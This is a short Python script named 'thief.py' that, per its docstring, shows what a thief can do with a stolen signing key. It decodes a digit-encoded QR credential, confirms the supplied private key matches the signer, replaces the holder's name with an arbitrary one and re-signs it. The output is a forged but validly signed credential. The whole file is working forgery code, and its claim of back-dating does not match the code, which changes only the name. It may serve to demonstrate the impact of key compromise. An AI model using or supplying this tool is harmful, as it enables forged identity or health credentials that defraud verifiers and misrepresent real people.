"""What a thief does with a stolen signing key: thief.py KEY.pem QRTEXT NAME

Prints the text of a QR code that says the same as QRTEXT about somebody called NAME, signed with KEY and dated back.
"""

import hashlib
import sys

import cbor2
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, utils
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_private_key

ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
WIDTHS = [0, 3, 5, 8, 10, 13, 15, 17]

file, text, name = sys.argv[1:]
key = load_pem_private_key(open(file, "rb").read(), None)
prefix, digits = text.split("#")
octets = b""
while digits:
    group, digits = digits[:17], digits[17:]
    octets += int(group).to_bytes(WIDTHS.index(len(group)), "big")
header, _, payload, _ = cbor2.loads(octets).value

spki = key.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
assert cbor2.loads(header)[4] == hashlib.sha256(spki).digest()[:8], "the key is not the one that signed the claim"
forged = cbor2.dumps(cbor2.loads(payload) | {3: name}, canonical=True)
message = cbor2.dumps(["Signature1", header, b"", forged])
r, s = utils.decode_dss_signature(key.sign(message, ec.ECDSA(hashes.SHA256())))
signature = r.to_bytes(32, "big") + min(s, ORDER - s).to_bytes(32, "big")
octets = cbor2.dumps(cbor2.CBORTag(18, [header, {}, forged, signature]))
groups = [octets[start : start + 7] for start in range(0, len(octets), 7)]
print(prefix + "#" + "".join(str(int.from_bytes(group, "big")).zfill(WIDTHS[len(group)]) for group in groups))
